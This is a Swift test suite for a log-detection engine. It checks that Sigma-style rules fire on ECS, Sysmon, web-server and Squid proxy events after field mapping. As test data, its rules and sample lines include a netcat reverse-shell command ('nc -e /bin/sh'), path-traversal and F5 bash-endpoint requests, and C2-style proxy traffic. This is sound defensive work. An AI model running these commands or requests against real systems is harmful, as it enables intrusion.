import Detection
import Foundation
import Records
import Testing

/// Events of other taxonomies meet rules by Sigma's names, and only those of their log source.
@Suite struct MappingTests {
  /// The mappings that Tocsin ships with.
  static let shipped: [MappingDeclaration] = {
    let folder = URL(filePath: #filePath).deletingLastPathComponent()
      .appending(path: "../../../config/mappings").standardizedFileURL
    let listed = try? FileManager.default.contentsOfDirectory(atPath: folder.path)
    let files = (listed ?? []).sorted().map { name in
      let text = try? String(contentsOf: folder.appending(path: name), encoding: .utf8)
      return SourceFile(path: name, text: text ?? "")
    }
    return ConfigurationReader.read(files: files).0.mappings
  }()

  static let rules = """
    title: A shell
    id: shell
    logsource: {category: process_creation, product: linux}
    detection: {a: {Image|endswith: /nc, CommandLine|contains: ' -e '}, condition: a}
    ---
    title: Any netcat
    id: netcat
    logsource: {category: process_creation, product: linux}
    detection: {a: {Image|endswith: /nc}, condition: a}
    ---
    title: A file
    id: file
    logsource: {category: file_event, product: linux}
    detection: {a: {TargetFilename|startswith: /etc/cron.}, condition: a}
    ---
    title: A quoted command
    id: quoted
    logsource: {category: process_creation, product: linux}
    detection: {a: {CommandLine|contains: 'x>&"y"<z'}, condition: a}
    ---
    title: A connection
    id: connection
    logsource: {category: network_connection, product: linux}
    detection: {a: {DestinationIp|cidr: 198.51.100.0/24, Initiated: 'true'}, condition: a}
    ---
    title: No parent
    id: orphan
    logsource: {category: process_creation, product: linux}
    detection: {a: {Image|endswith: /orphan}, f: {ParentImage: null}, condition: a and f}
    ---
    title: A word that stands in many lines
    id: who
    logsource: {category: process_creation, product: linux}
    detection: {a: {Image|endswith: /w}, condition: a}
    ---
    title: No word at all
    id: rooted
    logsource: {category: process_creation, product: linux}
    detection: {a: {Mark|exists: true}, condition: a}
    ---
    title: A path through sudo
    id: path
    logsource: {product: linux, service: sudo}
    detection: {a: {Image|endswith: /spool/tool}, condition: a}
    ---
    title: A request
    id: request
    logsource: {category: webserver}
    detection: {a: {cs-uri-query|contains: /mgmt/tm, cs-uri-stem|endswith: /bash, sc-status: 200}, condition: a}
    ---
    title: Up the tree
    id: traversal
    logsource: {category: webserver}
    detection: {a: {cs-uri-decoded|contains: '../../'}, condition: a}
    ---
    title: A proxied download
    id: download
    logsource: {category: proxy}
    detection: {a: {c-uri-extension: [exe, sh], cs-host|endswith: .example}, condition: a}
    ---
    title: An agent
    id: agent
    logsource: {category: proxy}
    detection: {a: {c-useragent|startswith: 'evil/', c-uri|contains: '/c2/'}, condition: a}
    ---
    title: A tunnel
    id: tunnel
    logsource: {category: proxy}
    detection: {a: {cs-method: CONNECT, cs-host: tunnel.example, dst_ip|cidr: 192.0.2.0/24, sc-status: 200}, condition: a}
    """

  static func bench(_ format: SourceDeclaration.Format, _ logsource: [Logsource] = []) -> RuleBench
  {
    var configuration = Configuration()
    configuration.mappings = shipped
    var bench = RuleBench(rules, configuration: configuration)
    bench.binding = SourceBinding(id: "bench", format: format, logsource: logsource)
    return bench
  }

  static let linux = [Logsource(product: "linux", service: "syslog")]
  static let web = [Logsource(category: "webserver")]
  static let proxy = [Logsource(category: "proxy")]

  struct Example: Sendable, CustomTestStringConvertible {
    var claim: String
    var format: SourceDeclaration.Format
    var logsource: [Logsource] = []
    var line: String
    var fires: [String]
    var testDescription: String { claim }
  }

  private static func sysmon(_ id: Int, _ data: String) -> String {
    "Nov 21 10:00:00 web-1 sysmon: <Event><System><Provider Name=\"Linux-Sysmon\" Guid=\"{ff}\"/>"
      + "<EventID>\(id)</EventID><Version>5</Version><Computer>web-1</Computer>"
      + "<Security UserId=\"0\"/></System><EventData><Data Name=\"RuleName\">-</Data>"
      + "\(data)</EventData></Event>"
  }

  static let examples = [
    Example(
      claim: "an ECS process", format: .json,
      line:
        #"{"@timestamp":"2026-11-21T10:00:00Z","event":{"category":["process"],"type":["start"]},"process":{"executable":"\/bin\/nc","command_line":"nc -e \/bin\/sh 192.0.2.1"}}"#,
      fires: ["shell", "netcat"]),
    Example(
      claim: "the same as flat keys, from a source of a program's own logs", format: .json,
      logsource: [Logsource(product: "shop")],
      line:
        #"{"event.category":"process","event.type":"start","process.executable":"/bin/nc","process.title":"nc -e /bin/sh"}"#,
      fires: ["shell", "netcat"]),
    Example(
      claim: "a process that ends is no creation", format: .json,
      logsource: [Logsource(product: "shop")],
      line:
        #"{"event":{"category":["process"],"type":["end"]},"process":{"executable":"/bin/nc"}}"#,
      fires: []),
    Example(
      claim: "a field of its own wins over a mapped one", format: .json,
      line:
        #"{"event":{"category":"process","type":"start"},"process":{"executable":"/bin/nc"},"Image":"/bin/ls"}"#,
      fires: []),
    Example(
      claim: "an ECS file under its category only", format: .json,
      line:
        #"{"event":{"category":["file"],"type":["creation"]},"file":{"path":"/etc/cron.d/x"},"process":{"executable":"/bin/nc"}}"#,
      fires: ["file"]),
    Example(
      claim: "a parent that is null is none", format: .json,
      line:
        #"{"event":{"category":"process","type":"start"},"process":{"executable":"/x/orphan","parent":{"executable":null}}}"#,
      fires: ["orphan"]),
    Example(
      claim: "Sysmon's process", format: .syslog, logsource: linux,
      line: sysmon(
        1,
        "<Data Name=\"Image\">/bin/nc</Data><Data Name=\"CommandLine\">nc -e /bin/sh</Data>"),
      fires: ["shell", "netcat"]),
    Example(
      claim: "Sysmon's connection meets no process rule", format: .syslog, logsource: linux,
      line: sysmon(
        3,
        "<Data Name=\"Image\">/bin/nc</Data><Data Name=\"Initiated\">true</Data><Data Name=\"DestinationIp\">198.51.100.7</Data>"
      ), fires: ["connection"]),
    Example(
      claim: "Sysmon's other events meet neither", format: .syslog, logsource: linux,
      line: sysmon(5, "<Data Name=\"Image\">/bin/nc</Data>"), fires: []),
    Example(
      claim: "references are undone", format: .syslog, logsource: linux,
      line: sysmon(
        1, "<Data Name=\"CommandLine\">sh -c x&gt;&amp;&quot;y&quot;&lt;z</Data>"),
      fires: ["quoted"]),
    Example(
      claim: "also by number", format: .syslog, logsource: linux,
      line: sysmon(1, "<Data Name=\"Image\">&#47;bin&#x2F;n&#99;</Data>"), fires: ["netcat"]),
    Example(
      claim: "what stands in a command line sets no other field", format: .syslog,
      logsource: linux,
      line: sysmon(
        1,
        "<Data Name=\"Image\">/bin/ls</Data><Data Name=\"CommandLine\">&lt;Data Name=\"Image\"&gt;/bin/nc</Data><Data Name=\"Image\">/bin/nc</Data>"
      ), fires: []),
    Example(
      claim: "Sysmon's process with nothing but a letter to find it by", format: .syslog,
      logsource: linux,
      line: sysmon(1, "<Data Name=\"Image\">/usr/bin/w</Data><Data Name=\"User\">u</Data>"),
      fires: ["who"]),
    Example(
      claim: "Sysmon's process with nothing to find it by", format: .syslog, logsource: linux,
      line: sysmon(1, "<Data Name=\"Mark\">-</Data>"), fires: ["rooted"]),
    Example(
      claim: "the same where the number of the event is a reference", format: .syslog,
      logsource: linux,
      line: "Nov 21 10:00:00 web-1 sysmon: <Event><System><EventID>&#49;</EventID></System>"
        + "<EventData><Data Name=\"Mark\">-</Data></EventData></Event>",
      fires: ["rooted"]),
    Example(
      claim: "a slash that a message in JSON escapes", format: .syslog, logsource: linux,
      line:
        #"Nov 21 10:00:00 web-1 sudo: @cee:{"sudo":{"accept":{"uuid":"1","command":"\/var\/spool\/tool"}}}"#,
      fires: ["path"]),
    Example(
      claim: "a slash that it does not", format: .syslog, logsource: linux,
      line:
        #"Nov 21 10:00:00 web-1 sudo: @cee:{"sudo":{"accept":{"uuid":"1","command":"/var/spool/tool"}}}"#,
      fires: ["path"]),
    Example(
      claim: "another program's XML is text", format: .syslog, logsource: linux,
      line: sysmon(1, "<Data Name=\"Image\">/bin/nc</Data>")
        .replacingOccurrences(of: "sysmon:", with: "shop:"), fires: []),
    Example(
      claim: "a file of bare events", format: .raw, logsource: [Logsource(product: "shop")],
      line: "<Event><System><EventID>1</EventID></System><EventData>"
        + "<Data Name=\"Image\">/bin/nc</Data></EventData></Event>", fires: ["netcat"]),
    Example(
      claim: "Sysmon as JSON", format: .json,
      line:
        #"{"Event":{"System":{"EventID":"11","Channel":"Linux-Sysmon/Operational"},"EventData":{"TargetFilename":"/etc/cron.d/x","Image":"/bin/nc"}}}"#,
      fires: ["file"]),
    Example(
      claim: "nginx writes JSON", format: .json, logsource: web,
      line:
        #"{"remote_addr":"192.0.2.7","request":"POST /mgmt/tm/util/bash?x HTTP/1.1","status":200}"#,
      fires: ["request"]),
    Example(
      claim: "nginx writes JSON with the target by itself", format: .json, logsource: web,
      line: #"{"request_uri":"\/a?f=%252e%252e%252f..%2f","status":"404"}"#, fires: ["traversal"]),
    Example(
      claim: "Caddy", format: .json, logsource: web,
      line:
        #"{"level":"info","ts":1778480401.5,"request":{"remote_ip":"192.0.2.7","method":"POST","host":"a.example","uri":"/mgmt/tm/util/bash","headers":{"User-Agent":["x"]}},"size":3,"status":200}"#,
      fires: ["request"]),
    Example(
      claim: "Traefik", format: .json, logsource: web,
      line:
        #"{"ClientHost":"192.0.2.7","DownstreamStatus":200,"RequestMethod":"POST","RequestPath":"/mgmt/tm/util/bash","request_User-Agent":"x"}"#,
      fires: ["request"]),
    Example(
      claim: "decoded twice", format: .combined, logsource: web,
      line:
        #"192.0.2.7 - - [21/Nov/2026:10:00:00 +0000] "GET /%252e%252e%2f..%2f HTTP/1.1" 404 1 "-" "-""#,
      fires: ["traversal"]),
    Example(
      claim: "Squid's own format", format: .squid, logsource: proxy,
      line:
        "1778480401.104    180 192.0.2.7 TCP_MISS/200 411 GET http://u@dl.example:8080/a/b.sh?x=1.exe - HIER_DIRECT/198.51.100.7 text/plain",
      fires: ["download"]),
    Example(
      claim: "Squid's tunnel", format: .auto, logsource: proxy,
      line:
        "1778480401.104 61180 192.0.2.7 TCP_TUNNEL/200 4112 CONNECT tunnel.example:443 joel HIER_DIRECT/192.0.2.99 -",
      fires: ["tunnel"]),
    Example(
      claim: "a proxy that writes the combined format", format: .combined, logsource: proxy,
      line:
        #"192.0.2.7 - - [21/Nov/2026:10:00:00 +0000] "GET http://dl.example/c2/a.exe HTTP/1.1" 200 1 "-" "evil/1" TCP_MISS:HIER_DIRECT"#,
      fires: ["download", "agent"]),
    Example(
      claim: "a proxy's JSON", format: .json, logsource: proxy,
      line:
        #"{"url":{"original":"http://x.example/c2/"},"user_agent":{"original":"evil/2"}}"#,
      fires: ["agent"]),
  ]

  @Test(arguments: examples)
  func anEventMeetsTheRulesOfItsLogSource(_ example: Example) throws {
    let bench = Self.bench(example.format, example.logsource)
    #expect(bench.diagnostics == [])
    #expect(try bench.matches(example.line).sorted() == example.fires.sorted())
  }

  /// A rule that only Sysmon's messages serve costs plain lines nothing, however short its words.
  @Test(arguments: ["who", "rooted"])
  func aMappingsNameFindsRulesThatItAloneServes(_ rule: String) {
    let bench = Self.bench(.syslog, Self.linux)
    let road = bench.rules.roads(for: bench.binding).first { $0.rule == rule }
    #expect(road?.literals == ["eventid"])
  }

  @Test func aMappingHoldsForItsSourcesOnly() throws {
    var configuration = Configuration()
    configuration.mappings = [
      MappingDeclaration(
        id: "own", sources: ["shop"], fields: [.init(from: "exe", to: ["Image"])])
    ]
    var bench = RuleBench(Self.rules, configuration: configuration)
    let process = [Logsource(category: "process_creation", product: "linux")]
    bench.binding = SourceBinding(id: "shop", format: .json, logsource: process)
    #expect(try bench.matches(#"{"exe":"/bin/nc"}"#) == ["netcat"])
    bench.binding = SourceBinding(id: "other", format: .json, logsource: process)
    #expect(try bench.matches(#"{"exe":"/bin/nc"}"#) == [])
  }

  @Test func squidsFieldsAreRead() throws {
    let reading = try #require(
      Shipped.decoders.read(
        "1778480401.104    180 192.0.2.7 TCP_MISS/404 411 GET http://dl.example/a%20b.exe?c=d joel HIER_DIRECT/198.51.100.7 text/html",
        as: .squid))
    let expected = [
      "c-ip": "192.0.2.7", "src_ip": "192.0.2.7", "src_net": "192.0.2.0/24", "sc-status": "404",
      "sc-bytes": "411", "cs-method": "GET", "c-uri": "http://dl.example/a%20b.exe?c=d",
      "cs-uri": "http://dl.example/a%20b.exe?c=d", "c-uri-stem": "/a%20b.exe", "c-uri-query": "c=d",
      "c-uri-extension": "exe", "cs-host": "dl.example", "r-dns": "dl.example",
      "cs-username": "joel", "dst_ip": "198.51.100.7", "cs-mime-type": "text/html",
      "time-taken": "180", "cs-uri-decoded": "http://dl.example/a b.exe?c=d",
    ]
    for (name, value) in expected { #expect(reading.fields[name] == value, "\(name)") }
    #expect(reading.time == Instant(rfc3339: "2026-05-11T06:20:01.104Z"))
    #expect(reading.counts.rejected == 0)
  }

  @Test(arguments: [
    "", "1778480401.104", "1778480401.104 180 192.0.2.7 TCP_MISS/404 411 GET - -",
    "1778480401.104 180 a TCP_MISS 411 GET http://x - HIER_NONE/- -",
    String(repeating: " ", count: 8192),
    "1778480401.104 180 a NONE/000 0 NONE error:invalid-request - HIER_NONE/- -",
  ])
  func brokenSquidLinesAreText(_ line: String) throws {
    let reading = try #require(Shipped.decoders.read(line, as: .squid))
    #expect(reading.fields["message"] == line)
  }

  /// Events that are cut anywhere, and tags that never close, are read without trapping.
  @Test func brokenXMLIsRead() throws {
    let whole = Self.sysmon(1, "<Data Name=\"Image\">/bin/n&#99;</Data><Data Name='User'/>")
    let bench = Self.bench(.syslog, Self.linux)
    var lines = whole.utf8.indices.map { Array(whole.utf8[..<$0]) }
    lines.append(Array(Self.sysmon(1, String(repeating: "<Data Name=\"", count: 5000)).utf8))
    lines.append(Array(Self.sysmon(1, String(repeating: " Name=\"", count: 9000)).utf8))
    lines.append(Array(Self.sysmon(1, String(repeating: "<", count: 60_000)).utf8))
    #expect(try bench.rules.differences(lines: lines, binding: bench.binding) == [])
  }
}
